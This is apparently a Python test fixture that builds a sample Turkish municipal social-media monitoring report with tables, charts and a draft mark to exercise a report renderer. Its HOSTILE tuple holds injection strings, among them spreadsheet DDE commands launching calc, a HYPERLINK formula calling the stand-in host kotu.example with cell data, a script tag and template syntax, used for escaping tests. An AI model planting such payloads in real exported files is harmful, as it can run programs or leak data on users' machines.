"""A report with all that a writer may meet: Turkish letters, long and hostile texts, wide and long tables, charts, a draft's mark."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from datetime import date, timedelta
from fractions import Fraction
from typing import Any

from reports.content import (
    DAY,
    DECIMAL,
    NUMBER,
    PERCENT,
    TEXT,
    Cell,
    Chart,
    Column,
    Report,
    Section,
    Signatures,
    Table,
    Text,
)

HOSTILE = (
    '=HYPERLINK("http://kotu.example/?"&A1;"tıkla")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert(1)</script> & <b>kalın</b> ]]> {{ 7*7 }} #eval *typst* _x_",
    "‮gnp.ığüşöç \u2066yalıtılmış\u2069 مرحبا \x00\x0b\x1b[31m son \ud800 \uffff",
    "https://www.umraniye.bel.tr/tr/haber/cok-uzun-" + "adres-" * 40,
    "Çok uzun bir gönderi. " * 480,
)
_MONTHS = ["Ocak", "Şubat", "Mart", "Nisan", "Mayıs", "Haziran"]
_PLATFORMS = ["X", "Facebook", "Instagram", "YouTube"]


def monitoring() -> Table:
    columns = [
        Column("Performans Göstergesi", TEXT, 3.0), Column("Hedefe Etkisi (%)", PERCENT),
        Column("Plan Dönemi Başlangıç Değeri (A)", DECIMAL, 1.2), Column("İzleme Dönemindeki Yılsonu Hedeflenen Değer (B)", DECIMAL, 1.2),
        Column("İzleme Dönemindeki Gerçekleşme Değeri (C)", DECIMAL, 1.2), Column("Performans (%) (C−A)/(B−A)", PERCENT),
    ]  # fmt: skip
    rows: list[list[Cell]] = [
        ["PG7.2.1: Ulusal ve yerel basında yayımlanan haber sayısı", Fraction(1, 5), Fraction(11617), Fraction(24000), Fraction(12530), Fraction(12530, 24000)],
        ["PG7.2.2: Sosyal medya hesaplarının takipçi sayısı", Fraction(1, 5), Fraction(213979), Fraction(247000), Fraction(236800), Fraction(22821, 33021)],
        ["PG7.2.3: Haftalık bülten sayısı", Fraction(1, 10), "-", Fraction(52), Fraction(26), Fraction(1, 2)],
        ["PG7.2.4: Haftalık video sayısı", Fraction(1, 10), "-", Fraction(52), Fraction(26), Fraction(1, 2)],
        ["PG7.2.5: Saat bazlı plana uyum (%)", Fraction(1, 10), Fraction(95), Fraction(100), Fraction(8900, 95), Fraction(89, 95)],
        ["PG7.2.6: Paylaşılan gönderi sayısı", Fraction(1, 10), Fraction(968), Fraction(3200), Fraction(1745), Fraction(1745, 3200)],
        ["PG7.2.7: Görüntülenme sayısı", Fraction(1, 10), Fraction(7839999), Fraction(20000000), Fraction(10884700), Fraction(10884700, 20000000)],
        ["PG7.2.8: Etkileşim sayısı", Fraction(1, 10), Fraction(283350), Fraction(800000), None, None],
    ]  # fmt: skip
    told = (
        "Gösterge, platformların kendi sayaçlarından dönem içindeki artış olarak hesaplanmıştır. Formül: C/B. "
        "Ölçümün başladığı 12.01.2026 gününden önceki artış bilinmemektedir; değer geçicidir."
    )
    return Table(
        "izleme", "Stratejik Plan İzleme Tablosu", columns, rows,
        notes=["Tablodaki hedef yılsonu hedefidir; yolunda giden bir akış göstergesi yıl ortasında hedefin yaklaşık yarısındadır."],
        spans=[(number, told if number != 4 else told + " " + HOSTILE[3]) for number in range(len(rows))],
        head=[("Amaç", "A7: Kurumsal iletişimi güçlendirmek, şeffaf ve katılımcı bir yönetim anlayışını sürdürmek"),
              ("Hedef", "H7.2: Belediye hizmetlerinin tanıtılmasında basın ve sosyal medya etkin kullanılacaktır"),
              ("Hedef Performansı", "%60,04 (geçici)"), ("Sorumlu Birim", "Basın ve Yayın Müdürlüğü")],
    )  # fmt: skip


def results() -> Table:
    rows: list[list[Cell]] = [
        ["PG7.2.1", "Adet", Fraction(24000), Fraction(25110), Fraction(25110, 24000), Fraction(1110)],
        ["PG7.2.2", "Kişi", Fraction(247000), Fraction(243750), Fraction(243750, 247000), Fraction(-3250)],
        ["PG7.2.8", "Adet", Fraction(800000), None, None, None],
        ["Üçte bir, yedide iki", "Oran", Fraction(1, 3), Fraction(2, 7), Fraction(-6, 7), Fraction(-1, 21)],
        ["Toplam", "", Fraction(1071000), Fraction(268860), Fraction(268860, 1071000), Fraction(-802140)],
    ]
    kinds = [TEXT, TEXT, DECIMAL, DECIMAL, PERCENT, DECIMAL]
    titles = ["Performans göstergesi", "Birim", "Hedeflenen", "Gerçekleşen", "Gerçekleşme (%)", "Sapma"]
    columns = [Column(title, kind, 2.4 if not n else 1) for n, (title, kind) in enumerate(zip(titles, kinds, strict=True))]
    return Table("sonuclar", "Performans Sonuçları Tablosu", columns, rows, bold=frozenset({4}))


def posts() -> Table:
    columns = [Column("Gün", DAY, 1.1), Column("Hesap", TEXT, 1.4), Column("Gönderi", TEXT, 4), Column("Görüntülenme", NUMBER, 1.3)]
    rows: list[list[Cell]] = [
        [date(2026, 1, 2) + timedelta(days=4 * n), f"x:umraniyebeltr{n}", text, 22465660 // (n + 1)]
        for n, text in enumerate(HOSTILE)
    ]
    rows.append([date(2026, 6, 30), "instagram:umraniyebelediyesi", "Ağaç dikim şöleninde İstanbul’un çocukları 🌳👨‍👩‍👧", 0])
    return Table("gonderiler", "En çok görüntülenen gönderiler", columns, rows, notes=["Silinen gönderiler de yer alır."])


def evidence() -> Table:
    """Long, so that its header repeats, and wide."""
    columns = [
        Column("Kanıt no", NUMBER, 0.8), Column("Alındığı gün", DAY), Column("Uç nokta", TEXT, 2.2), Column("Hesap", TEXT, 1.6),
        Column("Boyut (bayt)", NUMBER), Column("Pay", PERCENT), Column("SHA-256", TEXT, 3.4), Column("Durum"),
    ]  # fmt: skip
    rows: list[list[Cell]] = [
        [1000 + n, date(2026, 1, 1) + timedelta(days=n), "/2/users/:id/tweets", f"x:hesap{n % 7}", 48213 + 977 * n, Fraction(n, 90), f"{n:064x}", "tamam"]
        for n in range(90)
    ]  # fmt: skip
    return Table("kanitlar", "Kanıt listesi", columns, rows)


def months() -> Table:
    columns = [Column("Ay"), *(Column(name, NUMBER) for name in _PLATFORMS)]
    rows: list[list[Cell]] = [[month, *(90000 + 41000 * n - 7000 * m * n for m in range(4))] for n, month in enumerate(_MONTHS)]
    rows[2][3] = None
    return Table("gorunum_aylar", "Aylara ve platformlara göre görüntülenme", columns, rows)


def followers() -> Table:
    days = [date(2026, 1, 5) + timedelta(weeks=n) for n in range(26)]
    rows: list[list[Cell]] = [[day, 213979 + 877 * n, Fraction(213979) + Fraction(33021 * n, 52)] for n, day in enumerate(days)]
    return Table(
        "takipci_seyri",
        "Takipçi sayısının seyri",
        [Column("Gün", DAY), Column("Takipçi", NUMBER), Column("Beklenen", DECIMAL)],
        rows,
    )


def weeks() -> Table:
    columns = [Column("Hafta"), *(Column(name, TEXT, 0.8) for name in ("Pzt", "Sal", "Çar", "Per", "Cum"))]
    rows: list[list[Cell]] = [
        [f"2026-W{n + 1:02}", *("tuttu" if (n + 2 * day) % 5 else "kaçtı" for day in range(1, 6))] for n in range(12)
    ]
    return Table("plan_haftalar", "Haftalık planın gerçekleşmesi", columns, rows)


def stacked() -> Chart:
    table = months()
    values = [{"ay": row[0], "platform": name, "sayi": row[at]} for row in table.rows for at, name in enumerate(_PLATFORMS, 1)]
    encoding = {
        "x": {"field": "ay", "type": "ordinal", "sort": _MONTHS, "title": None, "axis": {"labelAngle": 0}},
        "y": {"field": "sayi", "type": "quantitative", "title": "Görüntülenme"},
        "color": {"field": "platform", "type": "nominal", "title": "Platform"},
    }
    return Chart(
        "gorunum",
        "Aylara göre görüntülenme",
        "Aylık görüntülenme Ocakta en az, Haziranda en çoktur.",
        _spec("bar", values, encoding),
        table,
    )


def line() -> Chart:
    table = followers()
    values = [{"gun": str(row[0]), "takipci": row[1]} for row in table.rows]
    encoding = {
        "x": {"field": "gun", "type": "temporal", "title": None, "axis": {"format": "%d.%m.%Y"}, "scale": {"type": "utc"}},
        "y": {"field": "takipci", "type": "quantitative", "title": "Takipçi", "scale": {"zero": False}},
    }
    return Chart(
        "takipci",
        "Takipçi sayısı ve beklenen değer",
        "Takipçi sayısı dönem boyunca artmıştır.",
        _spec("line", values, encoding),
        table,
    )


def heat() -> Chart:
    table = weeks()
    values = [{"hafta": row[0], "gun": table.columns[at].title, "durum": row[at]} for row in table.rows for at in range(1, 6)]
    encoding = {
        "x": {"field": "hafta", "type": "ordinal", "title": None},
        "y": {"field": "gun", "type": "ordinal", "title": None, "sort": [column.title for column in table.columns[1:]]},
        "color": {"field": "durum", "type": "nominal", "title": "Durum"},
    }
    return Chart(
        "plan",
        "Planın gerçekleşme haritası",
        "On iki haftanın çoğu gününde plan gerçekleşmiştir.",
        _spec("rect", values, encoding),
        table,
    )


def _spec(mark: str, values: Sequence[Mapping[str, Any]], encoding: Mapping[str, Any]) -> dict[str, Any]:
    locale = {"decimal": ",", "thousands": ".", "grouping": [3], "currency": ["", " ₺"], "percent": "%"}
    config = {"locale": {"number": locale}, "font": "Liberation Sans"}
    return {"width": 480, "height": 240, "data": {"values": list(values)}, "mark": mark, "encoding": encoding, "config": config}


def sample(*, language: str = "tr", mark: str = "TASLAK", extra: Sequence[Section] = ()) -> Report:
    note = Text([
        "Bu rapor, Ümraniye Belediyesi Basın ve Yayın Müdürlüğünün H7.2 hedefine ait göstergelerini 2026 yılının ilk altı ayı için gösterir. "
        "Değerler platformların resmî arayüzlerinden toplanmış, her biri kanıtı olan yanıtlara dayandırılmıştır.",
        "Şüpheli görülen, çakışan ya da eksik kalan her ölçüm ayrıca belirtilmiştir (ÖĞRENCİ ÇAĞRI MERKEZİ, IŞIKLANDIRMA, ŞÜKRAN, ÜMRANİYE).",
    ])  # fmt: skip
    choices = Text(["Kapsam: belediyenin kurumsal hesapları; başkanın kişisel hesapları sayılmaz.", "Yuvarlama: yalnızca gösterimde, yarım yukarı.",
                    "Takipçi: kişi birden çok platformda ayrı ayrı sayılır.", *HOSTILE[:4]], listed=True)  # fmt: skip
    return Report(
        name="izleme-2026-1",
        title="2026 Yılı İlk Altı Aylık İzleme Raporu",
        subtitle="H7.2 · Basın ve sosyal medyanın etkin kullanılması",
        institution="Ümraniye Belediyesi",
        language=language,
        made_on=date(2026, 7, 2),
        mark=mark,
        facts=[("Dönem", "01.01.2026–30.06.2026"), ("Anlık görüntü", "7 (mühürlenmemiş)"), ("Özet (SHA-256)", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
               ("Sorumlu birim", "Basın ve Yayın Müdürlüğü")],
        sections=[
            Section("Stratejik Plan İzleme Tablosu", [note, monitoring()], new_page=True),
            Section("İmza", [Signatures(["Hazırlayan", "Kontrol Eden", "Onaylayan (Basın ve Yayın Müdürü)"])], level=2),
            Section("Yönetim Sayfaları", [], new_page=True),
            Section("Görüntülenme", [stacked()], level=2),
            Section("Takipçi", [line()], level=2, new_page=True),
            Section("Plan", [heat()], level=2, new_page=True),
            Section("Performans Sonuçları", [results(), Text(["Sapmalar yukarıda işaretli olarak gösterilmiştir."])]),
            Section("Gönderiler", [posts()], new_page=True),
            Section("Hesaplama Notları", [choices]),
            Section("Ek: Kanıtlar", [evidence()], new_page=True, wide=True),
            *extra,
        ],
    )  # fmt: skip
